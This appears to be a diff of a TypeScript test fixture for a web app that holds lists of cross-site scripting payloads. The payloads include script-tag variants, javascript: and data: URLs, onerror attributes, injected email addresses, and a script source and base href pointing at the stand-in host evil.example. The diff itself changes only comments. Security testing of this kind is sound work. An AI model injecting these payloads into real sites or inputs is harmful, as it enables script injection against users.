@@ -1,9 +1,9 @@
-// Texts that try to become code. Whatever of it runs sets window.executed, opens a dialog or asks evil.example.
+// Texts that try to run as code, which sets window.executed, opens a dialog or requests evil.example.
 
 const RUN = "window.executed=1";
 const LOAD = "https://evil.example/x";
 
-/** Each is found again on the pages by the word in front of it. */
+/** The first word identifies each text on the pages. */
 export const SCRIPT_TEXTS: string[] = [
   ...[`<script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT >`, `</script><script>${RUN}</script>`],
   ...[`<script src=${LOAD}.js></script>`, `<script type=module>${RUN}</script>`],
@@ -34,7 +34,7 @@ export const SCRIPT_TEXTS: string[] = [
   ...[`＜script＞${RUN}＜/script＞`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`],
 ];
 
-/** What becomes code in a script rather than in a page: only texts of several lines may have it. */
+/** Attacks on scripts instead of HTML, for texts of several lines only. */
 export const LINE_SEPARATORS = `\u2028${RUN}\u2029${RUN}\n${RUN}//`;
 
 /** Short enough for a time, a type or a phone number. */
@@ -46,7 +46,7 @@ export const SHORT_TEXTS = [
   "<base href=//evil.example>",
 ];
 
-/** Addresses that are not an image that was uploaded here. */
+/** Addresses other than uploaded images. */
 export const SCRIPT_ADDRESSES = [
   ...["javascript:window.executed=1", "JaVaScRiPt:window.executed=1", "java\nscript:window.executed=1"],
   ...["data:text/html,<script>window.executed=1</script>"],
@@ -58,7 +58,7 @@ export const SCRIPT_ADDRESSES = [
   ...SHORT_TEXTS,
 ];
 
-/** Addresses of email that are allowed to be this odd, and some that are not. */
+/** Odd email addresses, valid and invalid. */
 export const SCRIPT_EMAILS = [
   ...["o'onfocus'-1@example.com", "'onload=executed=1'@example.com"],
   ...['"<script>window.executed=1</script>"@example.com', "<script>executed=1</script>@example.com"],
